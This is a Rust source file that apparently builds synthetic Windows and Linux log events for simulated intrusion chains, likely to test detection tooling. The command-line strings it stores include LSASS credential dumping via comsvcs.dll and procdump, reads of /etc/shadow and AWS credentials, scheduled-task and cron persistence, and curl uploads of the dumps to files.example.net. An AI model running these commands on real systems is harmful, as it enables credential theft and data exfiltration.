//! Host chains: Windows (both layouts) and Linux.

use super::{Chain, Scenario};
use crate::tooling::generator::sources::Process;

pub(super) fn windows(s: Scenario, c: &mut Chain<'_>, n: u64) -> String {
    let host = format!("WKS{}.contoso.local", 900 + n % 100);
    let sys = |exe: &str| format!("C:\\Windows\\System32\\{exe}");
    match s {
        Scenario::WinFullMachine => {
            let name = format!("eve-{n}");
            let user = format!("CONTOSO\\{name}");
            c.process(0, &host, &user, &sys("rundll32.exe"), "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 640 C:\\Users\\Public\\l.dmp full");
            c.process(8, &host, &user, &sys("whoami.exe"), "whoami /all");
            c.process(
                11,
                &host,
                &user,
                &sys("net.exe"),
                "net group \"domain admins\" /domain",
            );
            c.process(19, &host, &user, &sys("schtasks.exe"), "schtasks /create /tn \"OneDrive Sync\" /tr C:\\Users\\Public\\sync.exe /sc minute /mo 5");
            let t = c.at(19);
            let sid = format!("S-1-5-21-1-2-3-{}", 5000 + n);
            let e = c.f.security_nested(
                t,
                &host,
                4698,
                &[
                    ("SubjectUserSid", &sid),
                    ("SubjectUserName", &name),
                    ("SubjectDomainName", "CONTOSO"),
                    ("TaskName", "\\OneDrive Sync"),
                ],
            );
            c.events.push(e);
            c.process(
                47,
                &host,
                &user,
                &sys("curl.exe"),
                "curl.exe -T C:\\Users\\Public\\l.dmp https://files.example.net/upload",
            );
            user.to_lowercase()
        }
        Scenario::WinPersistenceHuman => {
            let user = format!("CONTOSO\\mallory-{n}");
            c.process(
                0,
                &host,
                &user,
                "C:\\Tools\\procdump64.exe",
                "procdump64.exe -accepteula -ma lsass.exe C:\\Temp\\out.dmp",
            );
            c.process(
                18 * 60,
                &host,
                &user,
                &sys("nltest.exe"),
                "nltest /dclist:contoso.local",
            );
            c.process(
                41 * 60,
                &host,
                &user,
                &sys("schtasks.exe"),
                "schtasks /create /tn \"Updater\" /tr C:\\Temp\\u.exe /sc onlogon",
            );
            user.to_lowercase()
        }
        _ => {
            let user = format!("CONTOSO\\helpdesk-{n}");
            c.process(0, &host, &user, &sys("whoami.exe"), "whoami /priv");
            c.process(
                30,
                &host,
                &user,
                &sys("net.exe"),
                "net localgroup administrators",
            );
            c.process(
                95,
                &host,
                &user,
                &sys("schtasks.exe"),
                "schtasks /create /tn \"Inventory\" /tr C:\\Tools\\inv.exe /sc daily",
            );
            user.to_lowercase()
        }
    }
}

pub(super) fn linux(s: Scenario, c: &mut Chain<'_>, n: u64) -> String {
    let host = format!("srv-{}", 900 + n % 100);
    let user = format!("build-{n}");
    let uid = 4000 + n as u32;
    let step =
        |c: &mut Chain<'_>, secs: i64, id: i64, image: &str, cmd: &str, extra: &[(&str, &str)]| {
            let t = c.at(secs);
            let e = c.f.sysmon_linux(
                t,
                id,
                &Process {
                    host: &host,
                    user: &user,
                    image,
                    command_line: cmd,
                    parent_image: "/usr/bin/bash",
                },
                uid,
                extra,
            );
            c.events.push(e);
        };
    if s == Scenario::LinuxFullMachine {
        step(c, 0, 1, "/usr/bin/cat", "cat /root/.aws/credentials", &[]);
        step(c, 2, 1, "/usr/bin/cat", "cat /etc/shadow", &[]);
        step(c, 5, 1, "/usr/bin/id", "id", &[]);
        step(c, 6, 1, "/usr/bin/uname", "uname -a", &[]);
        step(c, 8, 1, "/usr/bin/cat", "cat /etc/passwd", &[]);
        step(c, 15, 1, "/usr/bin/crontab", "crontab /tmp/.c", &[]);
        step(
            c,
            15,
            11,
            "/usr/bin/crontab",
            "",
            &[(
                "TargetFilename",
                &format!("/var/spool/cron/crontabs/{user}"),
            )],
        );
        step(
            c,
            31,
            1,
            "/usr/bin/curl",
            "curl -s -T /tmp/.x.tgz https://files.example.net/upload",
            &[],
        );
        step(
            c,
            31,
            3,
            "/usr/bin/curl",
            "",
            &[
                ("DestinationIp", "198.51.100.23"),
                ("DestinationHostname", "files.example.net"),
                ("DestinationPort", "443"),
            ],
        );
    } else {
        step(c, 0, 1, "/usr/bin/id", "id", &[]);
        step(c, 4, 1, "/usr/bin/uname", "uname -a", &[]);
        step(c, 40, 1, "/usr/bin/crontab", "crontab -l", &[]);
    }
    user
}
